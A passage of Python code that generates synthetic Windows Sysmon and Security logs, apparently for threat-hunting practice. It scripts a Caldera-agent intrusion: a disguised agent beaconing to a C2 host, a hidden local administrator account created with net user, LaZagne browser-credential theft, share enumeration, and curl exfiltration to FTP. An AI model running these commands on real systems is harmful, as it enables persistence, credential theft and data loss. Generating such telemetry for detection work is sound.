     f'"{DEFENDER}\\MpCmdRun.exe" SignaturesUpdateService -ScheduleJob -RestrictPrivileges',
     "MpCmdRun.exe"),
    ("services", "NETWORK SERVICE", "sppsvc.exe", SYS32, r"C:\Windows\system32\sppsvc.exe",
     "sppsvc.exe"),
    ("svc_sched", "SYSTEM", "CompatTelRunner.exe", SYS32,
     r"C:\Windows\system32\compattelrunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun",
     "CompatTelRunner.exe"),
    ("svc_sched", "SYSTEM", "wermgr.exe", SYS32, r"C:\Windows\system32\wermgr.exe -upload",
     "wermgr.exe"),
    ("splunkd_fwd", "SYSTEM", "splunk-winevtlog.exe", SPLUNK_BIN,
     f'"{SPLUNK_BIN}\\splunk-winevtlog.exe"', "splunk-winevtlog.exe"),
    ("splunkd_fwd", "SYSTEM", "splunk-admon.exe", SPLUNK_BIN, f'"{SPLUNK_BIN}\\splunk-admon.exe"',
     "splunk-admon.exe"),
    ("splunkd_fwd", "SYSTEM", "splunk-netmon.exe", SPLUNK_BIN,
     f'"{SPLUNK_BIN}\\splunk-netmon.exe"', "splunk-netmon.exe"),
    ("splunkd_fwd", "SYSTEM", "btool.exe", SPLUNK_BIN,
     f'"{SPLUNK_BIN}\\btool.exe" server list --no-log', "btool.exe"),
]
# scheduled shells (no network): parent key, user, name, dir, cmd, ofn
_SVC_SHELLS = [
    ("svc_sched", "SYSTEM", "powershell.exe", WPS_DIR,
     "powershell.exe -ExecutionPolicy Restricted -Command Write-Host 'Final result: 1';",
     "PowerShell.EXE"),
    ("svc_sched", "SYSTEM", "cmd.exe", SYS32,
     r"C:\Windows\system32\cmd.exe /d /c C:\Windows\system32\silcollector.cmd publish",
     "Cmd.Exe"),
    ("splunkd_fwd", "SYSTEM", "cmd.exe", SYS32,
     f'C:\\Windows\\system32\\cmd.exe /c ""{SPLUNK_BIN}\\splunk.exe" cmd btool inputs list --no-log"',
     "Cmd.Exe"),
]
_USER_APPS = [  # parent key, name, dir, cmd template, ofn
    ("explorer", "notepad.exe", SYS32, '"C:\\Windows\\system32\\notepad.exe" C:\\Users\\{u}\\Documents\\{doc}.txt',
     "NOTEPAD.EXE"),
    ("explorer", "WINWORD.EXE", OFFICE, f'"{OFFICE}\\WINWORD.EXE" /n "C:\\Users\\{{u}}\\Documents\\{{doc}}.docx"',
     "WinWord.exe"),
    ("explorer", "EXCEL.EXE", OFFICE, f'"{OFFICE}\\EXCEL.EXE" "C:\\Users\\{{u}}\\Documents\\{{doc}}.xlsx"',
     "Excel.exe"),
    ("explorer", "OUTLOOK.EXE", OFFICE, f'"{OFFICE}\\OUTLOOK.EXE"', "Outlook.exe"),
    ("explorer", "Taskmgr.exe", SYS32, '"C:\\Windows\\system32\\taskmgr.exe" /4', "Taskmgr.exe"),
    ("explorer", "SnippingTool.exe", SYS32, '"C:\\Windows\\system32\\SnippingTool.exe"',
     "SnippingTool.exe"),
    ("svc_dcom", "backgroundTaskHost.exe", SYS32,
     '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider',
     "backgroundTaskHost.exe"),
    ("svc_dcom", "SearchApp.exe", r"C:\Windows\SystemApps\Microsoft.Windows.Search_cw5n1h2txyewy",
     '"C:\\Windows\\SystemApps\\Microsoft.Windows.Search_cw5n1h2txyewy\\SearchApp.exe" '
     '-ServerName:CortanaUI.AppX8z9r6jm96hw4bsbneegw0kyxx296wr9t.mca', "SearchApp.exe"),
]
_DOCS = ["Rapport_Q4", "budget_2025", "notes_reunion", "planning_decembre", "inventaire_postes",
         "compte_rendu", "todo", "factures_novembre", "presentation_client"]
_CHROME_TYPES = [
    "--type=renderer --lang=fr --device-scale-factor=1 --num-raster-threads=2 "
    "--renderer-client-id={n} --launch-time-ticks={m} --mojo-platform-channel-handle={h} /prefetch:1",
    "--type=utility --utility-sub-type=network.mojom.NetworkService --lang=fr --service-sandbox-type=none "
    "--mojo-platform-channel-handle={h} /prefetch:8",
    "--type=gpu-process --gpu-preferences=WAAAAAAAAADgAAAMAAAAAAAAAAAAAAAAAABgAAAAAAA4AAAAAAAAAAA "
    "--mojo-platform-channel-handle={h} /prefetch:2",
]
_DIRECT_WEB = ["142.250.179.100", "142.250.75.238", "172.217.20.163", "13.107.42.14",
               "20.190.159.2", "104.16.132.229", "151.101.1.140", "151.101.65.69", "52.97.146.162"]
_UPDATE_HTTP = ["13.107.4.50", "23.57.6.227", "8.247.210.126"]
_DOMAINS = [  # domain, answers
    ("proxy.corp.local", ["10.0.0.2"]), ("settings-win.data.microsoft.com", ["20.42.65.92"]),
    ("login.live.com", ["20.190.159.2", "40.126.31.67"]), ("www.msftconnecttest.com", ["13.107.4.52"]),
    ("ctldl.windowsupdate.com", ["8.247.210.126"]), ("teams.microsoft.com", ["52.113.194.132"]),
    ("oneclient.sfx.ms", ["23.57.6.227"]), ("fileserver.corp.local", ["10.0.0.10"]),
    ("wpad.corp.local", ["10.0.0.2"]), ("www.google.com", ["142.250.179.100"]),
    ("clients2.google.com", ["142.250.75.238"]), ("outlook.office365.com", ["52.97.146.162"]),
]
_SVC_KEYS = [
    ("svc_sysmain", r"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\{sid}\\Device\HarddiskVolume3\Windows\System32\{exe}"),
    ("msmpeng", r"HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\SignaturesLastUpdated"),
    ("msmpeng", r"HKLM\SOFTWARE\Microsoft\Windows Defender\Diagnostics\LastKnownGoodPlatformLocation"),
    ("svc_wu", r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\WindowsUpdate\Auto Update\Results\Detect\LastSuccessTime"),
    ("services", r"HKLM\System\CurrentControlSet\Services\{svc}\Start"),
    ("svc_dcom", r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\AutoRestartShell"),
]
_USER_KEYS = [
    r"HKU\{sid}\Software\Microsoft\Windows\CurrentVersion\Explorer\UserAssist\{{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}}\Count\{rot}",
    r"HKU\{sid}\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.{ext}\{n}",
    r"HKU\{sid}\Software\Microsoft\Windows\CurrentVersion\Explorer\FeatureUsage\AppSwitched\{app}",
    r"HKU\{sid}\Software\Microsoft\Office\16.0\Common\Roaming\Identities\{n}",
]
_SERVICES = ["BITS", "wuauserv", "UsoSvc", "WaaSMedicSvc", "sppsvc", "TrustedInstaller"]


# ---------------------------------------------------------------------------------------------
# The world: processes alive in each boot, sessions, and the scripted story


class _Epoch:
    def __init__(self, boot: datetime, end: datetime):
        self.boot, self.end = boot, end
        self.procs: dict[str, Proc] = {}
        self.logon: datetime | None = None  # inf808's logon


class _World:
    def __init__(self, seed: int):
        self.rnd = random.Random(f"stixgraph-demo:{seed}:story")
        self.machine = self.rnd.getrandbits(32)
        self.timeline: list[tuple[datetime, int, _Obs]] = []
        self.seq = 0
        self.used_pids: set[int] = set(RESERVED_PIDS)
        self.epochs = [
            _Epoch(datetime(2024, 12, 1, 7, 58, 3, tzinfo=UTC), datetime(2024, 12, 10, 3, 0, tzinfo=UTC)),
            _Epoch(datetime(2024, 12, 10, 3, 4, 12, tzinfo=UTC), STORY_STOP),
        ]
        # agents alive: (start, end, Proc)
        self.agents: list[tuple[datetime, datetime, Proc]] = []
        self.alex_created = datetime(2024, 12, 5, 10, 31, 45, tzinfo=UTC)
        self._story()
        self.timeline.sort(key=lambda x: (x[0], x[1]))

    # -- helpers -----------------------------------------------------------------------------
    def guid(self, rnd: random.Random | None = None) -> str:
        r = rnd or self.rnd
        return (f"{{{self.machine:08x}-{r.getrandbits(16):04x}-{r.getrandbits(16):04x}-"
                f"{r.getrandbits(16):04x}-{r.getrandbits(48):012x}}}")

    def pid(self, rnd: random.Random | None = None, keep: bool = True) -> int:
        r = rnd or self.rnd
        while True:
            p = r.randrange(128, 16384, 4)
            if p not in self.used_pids:
                if keep:
                    self.used_pids.add(p)
                return p

    def proc(self, name, dir, cmd, user, start, parent=None, ofn=None, pid=None, rnd=None) -> Proc:
        return Proc(pid if pid is not None else self.pid(rnd, keep=rnd is None),
                    self.guid(rnd), name, dir, cmd, user, start, parent, ofn)

    def emit(self, obs: _Obs) -> _Obs:
        self.seq += 1
        self.timeline.append((obs.t, self.seq, obs))
        return obs

    def epoch(self, t: datetime) -> _Epoch | None:
        for e in self.epochs:
            if e.boot <= t < e.end:
                return e
        return None

    # -- event builders (Sysmon and Security, as stix-shifter maps them) ----------------------
    @staticmethod
    def create(p: Proc, t: datetime | None = None) -> _Obs:
        t = t or p.start
        o = _Obs(t, True, 1, "Process Create", "allowed")
        o.process(p, full=True)
        pp = p.parent
        o.data = [("ProcessGuid", p.guid), ("ProcessId", p.pid), ("Image", p.path),
                  ("OriginalFileName", p.ofn or "-"), ("CommandLine", p.cmd),
                  ("User", _raw_user(p.user)), ("Hashes", "MD5={MD5},SHA256={SHA-256},"
                                                          "IMPHASH={x_IMPHASH}".format(**_hashes(p.path))),
                  ("ParentProcessGuid", pp.guid if pp else "-"),
                  ("ParentProcessId", pp.pid if pp else 0), ("ParentImage", pp.path if pp else "-"),
                  ("ParentCommandLine", (pp.cmd or "-") if pp else "-")]
        return o

    @staticmethod
    def net(p: Proc, t: datetime, src: str, sport: int, dst: str, dport: int, proto: str = "tcp",
            inbound: bool = False) -> _Obs:
        o = _Obs(t, True, 3, "Network connection detected", "allowed")
        pref = o.process(p)
        s, d = o.ip(src), o.ip(dst)
        nt = o.add({"type": "network-traffic", "src_ref": s, "dst_ref": d, "src_port": sport,
                    "dst_port": dport, "protocols": ["ip", proto],
                    "x_direction": "inbound" if inbound else "outbound"})
        o.objs[pref]["opened_connection_refs"] = [nt]
        o.ev["network_ref"] = nt
        o.ev["ip_refs"] = [s, d]
        o.data = [("ProcessGuid", p.guid), ("ProcessId", p.pid), ("Image", p.path),
                  ("User", _raw_user(p.user)), ("Protocol", proto),
                  ("Initiated", "false" if inbound else "true"), ("SourceIp", src),
                  ("SourcePort", sport), ("DestinationIp", dst), ("DestinationPort", dport)]
        return o

    @staticmethod
    def file(p: Proc, t: datetime, path: str) -> _Obs:
        o = _Obs(t, True, 11, "File created", "allowed")
        o.process(p)
        name = path.rsplit("\\", 1)[-1]
        # stix-shifter: file_path -> directory.path, file name included
        d = o.add({"type": "directory", "path": path}, ("dir", path))
        f = o.add({"type": "file", "name": name, "parent_directory_ref": d})
        o.ev["file_ref"] = f
        o.data = [("ProcessGuid", p.guid), ("ProcessId", p.pid), ("Image", p.path),
                  ("TargetFilename", path), ("CreationUtcTime", _iso(t)), ("User", _raw_user(p.user))]
        return o

    @staticmethod
    def reg(p: Proc, t: datetime, key: str, details: str) -> _Obs:
        o = _Obs(t, True, 13, "Registry value set", "allowed")
        o.process(p)
        o.ev["registry_ref"] = o.add({"type": "windows-registry-key", "key": key})
        o.data = [("EventType", "SetValue"), ("ProcessGuid", p.guid), ("ProcessId", p.pid),
                  ("Image", p.path), ("TargetObject", key), ("Details", details),
                  ("User", _raw_user(p.user))]
        return o

    @staticmethod
    def dns(p: Proc, t: datetime, domain: str, answers: list[str]) -> _Obs:
        o = _Obs(t, True, 22, "Dns query", "allowed")
        pref = o.process(p)
        dref = o.add({"type": "domain-name", "value": domain})
        ips = [o.add({"type": "ipv4-addr", "value": a}, ("answer", a)) for a in answers]
        nt = o.add({"type": "network-traffic", "extensions": {"dns-ext": {
            "question": {"domain_ref": dref}, "resolved_ip_refs": ips}}})
        o.objs[pref]["opened_connection_refs"] = [nt]
        o.ev["domain_ref"] = dref
        o.ev["network_ref"] = nt
        o.data = [("ProcessGuid", p.guid), ("ProcessId", p.pid), ("Image", p.path),
                  ("QueryName", domain), ("QueryStatus", 0),
                  ("QueryResults", ";".join(f"::ffff:{a}" for a in answers) + ";"),
                  ("User", _raw_user(p.user))]
        return o

    @staticmethod
    def sec(t: datetime, code: int, action: str, user: str, p: Proc | None = None,
            extra: list | None = None) -> _Obs:
        o = _Obs(t, False, code, action, "success")
        o.user(user)
        if p is not None:  # the caller process (ProcessName/ProcessId): no process_user
            pref = o.add({"type": "process", "pid": p.pid, "name": p.name}, ("proc", p.guid))
            b = o.binary(p)
            if b:
                o.objs[pref]["binary_ref"] = b
                o.ev["file_ref"] = b
            o.ev["process_ref"] = pref
        o.data = [("TargetUserName", user), ("TargetDomainName",
                                              "NT AUTHORITY" if user in _NT_AUTHORITY else HOSTNAME.upper())]
        if p is not None:
            o.data += [("ProcessId", hex(p.pid)), ("ProcessName", p.path)]
        o.data += extra or []
        return o

    # -- the story ------------------------------------------------------------------------------
    def _boot(self, e: _Epoch, with_splunk: bool) -> None:
        system = Proc(4, self.guid(), "System", "", None, "SYSTEM", e.boot)
        e.procs["System"] = system
        t = e.boot
        for key, name, dir, cmd, user, parent, ofn in _BOOT + ([_SPLUNKD_FWD] if with_splunk else []):
            t += timedelta(seconds=self.rnd.randint(1, 4))
            p = self.proc(name, dir, cmd, user, t, e.procs[parent], ofn)
            e.procs[key] = p
            self.emit(self.create(p))
        self.emit(self.sec(t + timedelta(seconds=2), 4624, "An account was successfully logged on",
                           "SYSTEM", e.procs["services"], [("LogonType", 5)]))

    def _logon(self, e: _Epoch, user: str, t: datetime, apps: bool = True, rdp_from=None) -> dict:
        """A user's interactive logon: 4624, userinit -> explorer and the session apps."""
        procs: dict[str, Proc] = {}
        if rdp_from:
            term = e.procs["svc_term"]
            self.emit(self.net(term, t - timedelta(seconds=5), rdp_from, self.rnd.randint(50000, 60000),
                               HOST_IP, 3389, inbound=True))
        self.emit(self.sec(t, 4624, "An account was successfully logged on", user,
                           e.procs["lsass"], [("LogonType", 10 if rdp_from else 2)]))
        winlogon = Proc(self.pid(), self.guid(), "winlogon.exe", SYS32, "winlogon.exe", "SYSTEM",
                        e.boot, e.procs["smss"], "WINLOGON.EXE")
        userinit = self.proc("userinit.exe", SYS32, r"C:\Windows\system32\userinit.exe", user,
                             t + timedelta(seconds=3), winlogon, "USERINIT.EXE")
        self.emit(self.create(userinit))
        procs["userinit"] = userinit
        tt = t + timedelta(seconds=4)
        for key, name, dir, cmd, parent, ofn in _SESSION:
            if not apps and key not in ("sihost", "explorer"):
                continue
            tt += timedelta(seconds=self.rnd.randint(1, 6))
            pp = procs.get(parent) or e.procs[parent]
            p = self.proc(name, dir.replace("{u}", user), cmd.replace("{u}", user), user, tt, pp, ofn)
            procs[key] = p
            self.emit(self.create(p))
        return procs

    def _caldera(self, agent: Proc, t: datetime, name: str, cmd: str, pid: int,
                 policy_test: str | None = "random", user: str | None = None) -> Proc:
        """A Sandcat ability: powershell.exe/cmd.exe (and its conhost) under the agent."""
        user = user or agent.user
        if name == "powershell.exe":
            p = self.proc(name, WPS_DIR, cmd, user, t, agent, "PowerShell.EXE", pid=pid)
        else:
            p = self.proc(name, SYS32, cmd, user, t, agent, "Cmd.Exe", pid=pid)
        self.emit(self.create(p))
        self.emit(self.create(self.proc("conhost.exe", SYS32, CONHOST_CMD, user, t, p, "CONHOST.EXE")))
        if name == "powershell.exe" and policy_test:
            if policy_test == "random":
                policy_test = self._policy_name()
            temp = (r"C:\Windows\SystemTemp" if user == "SYSTEM"
                    else rf"C:\Users\{user}\AppData\Local\Temp")
            self.emit(self.file(p, t, rf"{temp}\__PSScriptPolicyTest_{policy_test}.ps1"))
        return p

    def _policy_name(self, rnd: random.Random | None = None) -> str:
        r = rnd or self.rnd
        abc = "abcdefghijklmnopqrstuvwxyz0123456789"
        return "".join(r.choice(abc) for _ in range(8)) + "." + "".join(r.choice(abc) for _ in range(3))

    def _agent(self, e: _Epoch, parent: Proc, t: datetime, pid: int, until: datetime) -> Proc:
        a = self.proc("splunkd.exe", SANDCAT_DIR, SANDCAT_CMD, parent.user, t, parent, None, pid=pid)
        self.emit(self.file(parent, t - timedelta(seconds=2), SANDCAT_DIR + r"\splunkd.exe"))
        self.emit(self.create(a))
        self.emit(self.net(a, t + timedelta(seconds=1), HOST_IP, self.rnd.randint(50000, 60000),
                           C2_IP, 8888))
        self.agents.append((t, until, a))
        return a

    def _child(self, parent: Proc, t: datetime, name: str, dir: str, cmd: str, ofn: str | None,
               pid: int | None = None) -> Proc:
        p = self.proc(name, dir, cmd, parent.user, t, parent, ofn, pid=pid)
        self.emit(self.create(p))
        return p

    def _story(self) -> None:
        e1, e2 = self.epochs
        d = lambda *a: datetime(2024, 12, *a, tzinfo=UTC)  # noqa: E731

        # 12-01: boot; it-support installs the Splunk forwarder, then logs off.
        self._boot(e1, with_splunk=False)
        its = self._logon(e1, "it-support", d(1, 8, 14, 2), apps=False)
        msi = self._child(its["explorer"], d(1, 8, 51, 40), "msiexec.exe", SYS32,
                          r'"C:\Windows\System32\msiexec.exe" /i "C:\Users\it-support\Downloads\splunk'
                          r'forwarder-9.3.2-d8bb32809498-x64-release.msi" RECEIVING_INDEXER="192.168.1.4'
                          r':9997" AGREETOLICENSE=yes /quiet', "msiexec.exe")
        self.emit(self.file(msi, d(1, 8, 52, 5), SPLUNK_BIN + r"\splunkd.exe"))
        key, name, dir, cmd, user, parent, ofn = _SPLUNKD_FWD
        fwd = self.proc(name, dir, cmd, user, d(1, 9, 12, 30), e1.procs[parent], ofn)
        e1.procs[key] = fwd
        self.emit(self.create(fwd))
        self.emit(self.sec(d(1, 10, 41, 7), 4634, "An account was logged off", "it-support"))

        # 12-02: inf808 logs on and starts the Sandcat agent from a PowerShell console.
        e1.logon = d(2, 8, 31, 10)
        s1 = self._logon(e1, "inf808", e1.logon)
        e1.procs.update({k: v for k, v in s1.items()})
        console1 = self._child(s1["explorer"], d(2, 10, 12, 51), "powershell.exe", WPS_DIR,
                               PSH_INTERACTIVE, "PowerShell.EXE")
        self.emit(self.file(console1, d(2, 10, 12, 51),
                            rf"C:\Users\inf808\AppData\Local\Temp\__PSScriptPolicyTest_{self._policy_name()}.ps1"))
        self.emit(self.net(console1, d(2, 10, 14, 31), HOST_IP, 53120, C2_IP, 8888))
        agent_a = self._agent(e1, console1, d(2, 10, 14, 40), PID_AGENT_A, e1.end)

        # 12-03: T1016 burst, T1518.001 with wmic.
        t = d(3, 14, 21, 7)
        c = self._caldera(agent_a, t, "cmd.exe", CMD_T1016, 9636)
        for i, (n, cl, ofn) in enumerate([
                ("ipconfig.exe", "ipconfig  /all", "ipconfig.exe"),
                ("netsh.exe", "netsh  interface show interface", "netsh.exe"),
                ("ARP.EXE", "arp  -a", "arp.exe"),
                ("nbtstat.exe", "nbtstat  -n", "nbtstat.exe"),
                ("net.exe", "net  config", "net.exe")]):
            self._child(c, t + timedelta(seconds=i + 1), n, SYS32, cl, ofn)
        t = d(3, 14, 25, 40)
        ps = self._caldera(agent_a, t, "powershell.exe", PSH_T1518_WMIC, 3132)
        self._child(ps, t + timedelta(seconds=1), "WMIC.exe", SYS32 + r"\wbem", WMIC_T1518,
                    "wmic.exe", pid=10180)
        self._child(e1.procs["svc_dcom"], t + timedelta(seconds=2), "WmiPrvSE.exe",
                    SYS32 + r"\wbem", r"C:\Windows\system32\wbem\wmiprvse.exe -Embedding", "Wmiprvse.exe")

        # 12-04: T1518.001 with Get-WmiObject.
        self._caldera(agent_a, d(4, 10, 2, 18), "powershell.exe", PSH_T1518_WMI, 11532)

        # 12-05: administrator over RDP, elevated agent, T1136 creates local admin Alex.
        adm = self._logon(e1, "administrator", d(5, 10, 3, 55), apps=False, rdp_from=C2_IP)
        console_adm = self._child(adm["explorer"], d(5, 10, 6, 2), "powershell.exe", WPS_DIR,
                                  PSH_INTERACTIVE, "PowerShell.EXE")
        agent_c = self._agent(e1, console_adm, d(5, 10, 7, 15), PID_AGENT_ADMIN,
                              d(5, 10, 50, 0))
        t = d(5, 10, 31, 44)
        c = self._caldera(agent_c, t, "cmd.exe", CMD_T1136, PID_T1136_CMD)
        n1 = self._child(c, t, "net.exe", SYS32, 'net  user /add "Alex" "coucou"', "net.exe")
        self._child(n1, t, "net1.exe", SYS32, r'C:\Windows\system32\net1  user /add "Alex" "coucou"',
                    "net1.exe")
        self.emit(self.sec(self.alex_created, 4720, "A user account was created", "Alex",
                           e1.procs["lsass"]))
        n2 = self._child(c, t + timedelta(seconds=2), "net.exe", SYS32,
                         'net  localgroup administrators "Alex" /add', "net.exe")
        self._child(n2, t + timedelta(seconds=2), "net1.exe", SYS32,
                    r'C:\Windows\system32\net1  localgroup administrators "Alex" /add', "net1.exe")
        self.emit(self.sec(t + timedelta(seconds=2), 4732,
                           "A member was added to a security-enabled local group", "Alex",
                           e1.procs["lsass"], [("TargetUserName", "Administrators")]))
        self.emit(self.sec(d(5, 10, 52, 13), 4634, "An account was logged off", "administrator"))

        # 12-06: Alex logs on and checks who he is; the agent downloads LaZagne.
        alex = self._logon(e1, "Alex", d(6, 9, 41, 2), apps=False, rdp_from=C2_IP)
        console_alex = self._child(alex["explorer"], d(6, 9, 43, 2), "powershell.exe", WPS_DIR,
                                   PSH_INTERACTIVE, "PowerShell.EXE")
        self._child(console_alex, d(6, 9, 43, 10), "whoami.exe", SYS32, WHOAMI, "whoami.exe",
                    pid=PID_WHOAMI)
        self.emit(self.sec(d(6, 9, 50, 40), 4634, "An account was logged off", "Alex"))
        self._lazagne(agent_a, d(6, 15, 12, 30), PID_LAZAGNE1_PSH, None)

        # 12-10: Patch Tuesday reboot, new session, new agent.
        self.emit(self.create(self.proc(
            "TiWorker.exe", _SERVICING, _SERVICING + r"\TiWorker.exe -Embedding", "SYSTEM",
            d(10, 2, 31, 5), e1.procs["svc_dcom"], "TiWorker.exe")))
        self._boot(e2, with_splunk=True)
        e2.logon = d(10, 8, 12, 40)
        s2 = self._logon(e2, "inf808", e2.logon)
        e2.procs.update(s2)
        console2 = self._child(s2["explorer"], d(10, 9, 13, 58), "powershell.exe", WPS_DIR,
                               PSH_INTERACTIVE, "PowerShell.EXE")
        self.emit(self.net(console2, d(10, 9, 15, 21), HOST_IP, 51877, C2_IP, 8888))
        agent_b = self._agent(e2, console2, d(10, 9, 15, 30), PID_AGENT_B,
                              d(13, 17, 30, 0))

        # 12-11: SharpShares and LaZagne again.
        t = d(11, 14, 5, 12)
        ps = self._caldera(agent_b, t, "powershell.exe", PSH_SHARPSHARES, 8836,
                           policy_test="fiwdnd5r.xzv")
        self._github(ps)
        self.emit(self.file(ps, t + timedelta(seconds=3), STAGE + r"\SharpShares.exe"))
        c = self._child(ps, t + timedelta(seconds=4), "cmd.exe", SYS32, CMD_SHARPSHARES, "Cmd.Exe",
                        pid=9416)
        ss = self._child(c, t + timedelta(seconds=4), "SharpShares.exe", STAGE,
                         STAGE + r"\SharpShares.exe  /ldap:all", "SharpShares.exe")
        self.emit(self.net(ss, t + timedelta(seconds=5), HOST_IP, 54271, FILESERVER_IP, 389))
        self.emit(self.net(ss, t + timedelta(seconds=6), HOST_IP, 54272, FILESERVER_IP, 445))
        self._lazagne(agent_b, d(11, 14, 20, 40), 10624, "nbbosa4w.b2j")

        # 12-12: staging and exfiltration (seed cell 191), then clean-up.
        p = self._caldera(agent_b, T_CURL1, "powershell.exe", _psh_curl(_FTP1), 3320)
        cu = self._child(p, T_CURL1, "curl.exe", SYS32, _curl(_FTP1), "curl.exe", pid=10504)
        self.emit(self.net(cu, T_CURL1, HOST_IP, 54588, SFTPCLOUD_IP, 21))
        p = self._caldera(agent_b, T_7Z, "powershell.exe", PSH_7Z, 2400)
        z = self._child(p, T_7Z, "7z.exe", r"C:\Program Files\7-Zip", SEVENZIP, "7z.exe", pid=1304)
        self.emit(self.file(z, T_7Z, STAGE + r"\StagedFiles.7z"))
        self._caldera(agent_b, T_FILEIO, "cmd.exe", CMD_FILEIO, 2688)
        p = self._caldera(agent_b, T_CURL2, "powershell.exe", _psh_curl(_FTP2), 2692)
        cu = self._child(p, T_CURL2, "curl.exe", SYS32, _curl(_FTP2), "curl.exe", pid=6764)
        self.emit(self.net(cu, T_CURL2_NET, HOST_IP, 54610, SFTPCLOUD_IP, 21))
        self._caldera(agent_b, d(12, 17, 10, 5), "powershell.exe", PSH_REMOVE, 11972)

        # 12-13..12-16: the user's own PowerShell console fetches Syscall.exe from GitHub.
        console = self._child(e2.procs["explorer"], d(13, 9, 12, 40), "powershell.exe", WPS_DIR,
                              PSH_INTERACTIVE, "PowerShell.EXE", pid=PID_CONSOLE_PSH)
        self.emit(self.file(console, d(13, 9, 12, 40),
                            r"C:\Users\inf808\AppData\Local\Temp\__PSScriptPolicyTest_zkwcrvyn.awj.ps1"))
        self._github(console)
        self.emit(self.file(console, d(13, 9, 14, 6), r"C:\Users\inf808\Downloads\Syscall.exe"))

    def _github(self, p: Proc) -> None:
        for pid, sport, dst, t in _GH:
            if pid == p.pid:
                self.emit(self.net(p, t, HOST_IP, sport, dst, 443))

    def _lazagne(self, agent: Proc, t: datetime, pid: int, policy: str | None) -> None:
        ps = self._caldera(agent, t, "powershell.exe", PSH_LAZAGNE, pid, policy_test=policy)
        self._github(ps)
        self.emit(self.file(ps, t + timedelta(seconds=3), STAGE + r"\LaZagne.exe"))
        c = self._child(ps, t + timedelta(seconds=5), "cmd.exe", SYS32, CMD_LAZAGNE, "Cmd.Exe")
        self._child(c, t + timedelta(seconds=5), "LaZagne.exe", STAGE,
                    STAGE + r"\LaZagne.exe  browsers", None)

    # -- background noise ---------------------------------------------------------------------
    def noise(self, count: int, seed: int) -> Iterator[_Obs]:
        """``count`` background observations, in time order within each hour."""
        rnd = random.Random(f"stixgraph-demo:{seed}:noise")
        if count <= 0:
            return
        slots = []
        t = datetime(2024, 12, 1, 8, tzinfo=UTC)
        while t < STORY_STOP:
            slots.append((t, self._slot_weight(t)))
            t += timedelta(hours=1)
        total = sum(w for _, w in slots)
        quotas = [count * w / total for _, w in slots]
        counts = [int(q) for q in quotas]
        rest = count - sum(counts)
        order = sorted(range(len(slots)), key=lambda i: (counts[i] - quotas[i], i))
        for i in order[:rest]:
            counts[i] += 1
        for (start, _), n in zip(slots, counts):
            if n == 0:
                continue
            out: list[_Obs] = []
            while len(out) < n:
                tt = start + timedelta(seconds=rnd.randrange(3600))
                e = self.epoch(tt)
                if e is None:  # in the reboot gap
                    e = self.epochs[1]
                    tt = e.boot + timedelta(seconds=rnd.randint(60, 600))
                out.extend(self._burst(rnd, e, tt)[: n - len(out)])
            out.sort(key=lambda o: o.t)
            yield from out

    def _user_active(self, e: _Epoch | None, t: datetime) -> bool:
        return (e is not None and e.logon is not None and t >= e.logon and t.weekday() < 5
                and 7 <= t.hour < 18)

    def _agent_at(self, t: datetime) -> Proc | None:
        alive = [a for s, u, a in self.agents if s <= t < u]
        return alive[-1] if alive else None

    _SERVICE_W = {"dns_svc": 10, "splunk_fwd": 8, "svc_proc": 8, "svc_reg": 4, "svc_file": 1.5,
                  "smb": 2, "winupdate": 1, "llmnr": 2, "auth_system": 2, "auth_machine": 1.5,
                  "svc_proxy": 2, "svc_shell": 0.6}
    _AGENT_W = {"beacon": 6}
    _USER_W = {"chrome_net": 12, "chrome_proc": 5, "user_proc": 3, "teams_net": 5, "user_dns": 5,
               "user_reg": 3, "user_file": 1, "enum4798": 1, "user_cmd": 0.2}

    def _kinds(self, e: _Epoch, t: datetime) -> dict[str, float]:
        kinds = dict(self._SERVICE_W)
        if "splunkd_fwd" not in e.procs or e.procs["splunkd_fwd"].start > t:
            del kinds["splunk_fwd"]
        if self._agent_at(t):
            kinds.update(self._AGENT_W)
        if self._user_active(e, t):
            kinds.update(self._USER_W)
        return kinds

    def _slot_weight(self, t: datetime) -> float:
        e = self.epoch(t) or self.epoch(t + timedelta(minutes=30))
        if e is None:
            return 0.0
        mid = t + timedelta(minutes=30)
        return sum(self._kinds(e, mid).values())

    def _burst(self, rnd: random.Random, e: _Epoch, t: datetime) -> list[_Obs]:
        kinds = self._kinds(e, t)
        names = list(kinds)
        kind = rnd.choices(names, [kinds[k] for k in names])[0]
        return getattr(self, "_n_" + kind)(rnd, e, t)

    def _short(self, rnd, e, t, parent: Proc, user, name, dir, cmd, ofn) -> Proc:
        low = cmd.lower()
        if any(w in low for w in _STORY_WORDS):  # would add hits to the seed's hunts
            raise AssertionError(f"noise command line matches a story hunt: {cmd}")
        pid = self.pid(rnd, keep=False)
        return Proc(pid, self.guid(rnd), name, dir, cmd, user, t, parent, ofn)

    def _eport(self, rnd) -> int:
        return rnd.randint(49152, 65535)

    # service side
    def _n_dns_svc(self, rnd, e, t):
        return [self.net(e.procs["svc_dns"], t, HOST_IP, self._eport(rnd), GATEWAY_IP, 53, "udp")]

    def _n_splunk_fwd(self, rnd, e, t):
        return [self.net(e.procs["splunkd_fwd"], t, HOST_IP, self._eport(rnd), SIEM_IP, 9997)]

    def _n_svc_proc(self, rnd, e, t):
        parent_key, user, name, dir, cmd, ofn = rnd.choice(_SVC_CHILDREN)
        parent = e.procs.get(parent_key) or e.procs["services"]
        if parent.start > t:
            parent = e.procs["services"]
        cmd = cmd.replace("{n}", str(rnd.randint(1, 400)))
        return [self.create(self._short(rnd, e, t, parent, user, name, dir, cmd, ofn))]

    def _n_svc_shell(self, rnd, e, t):
        parent_key, user, name, dir, cmd, ofn = rnd.choice(_SVC_SHELLS)
        parent = e.procs.get(parent_key)
        if parent is None or parent.start > t:
            parent = e.procs["svc_sched"]
        p = self._short(rnd, e, t, parent, user, name, dir, cmd, ofn)
        out = [self.create(p)]
        out.append(self.create(self._short(rnd, e, t, p, user, "conhost.exe", SYS32, CONHOST_CMD,
                                           "CONHOST.EXE")))
        if name == "powershell.exe":
            out.append(self.file(p, t + timedelta(seconds=1),
                                 rf"C:\Windows\SystemTemp\__PSScriptPolicyTest_{self._policy_name(rnd)}.ps1"))
        return out

    def _n_svc_reg(self, rnd, e, t):
